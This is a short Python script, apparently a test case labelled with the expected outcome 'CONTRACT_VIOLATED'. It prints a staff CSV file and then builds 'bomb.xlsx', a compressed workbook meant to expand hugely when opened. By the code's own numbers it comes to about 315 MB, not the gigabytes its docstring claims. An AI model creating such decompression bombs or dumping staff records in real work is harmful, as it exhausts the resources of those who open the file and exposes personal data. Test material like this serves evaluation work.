"""Leave a workbook that unpacks to gigabytes.

ends: CONTRACT_VIOLATED
"""

import zipfile

print(open("staff.csv").read())
with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
    archive.writestr("[Content_Types].xml", "<Types/>")
    with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
        for _ in range(300):
            sheet.write(b"<c><v>1</v></c>" * 70_000)
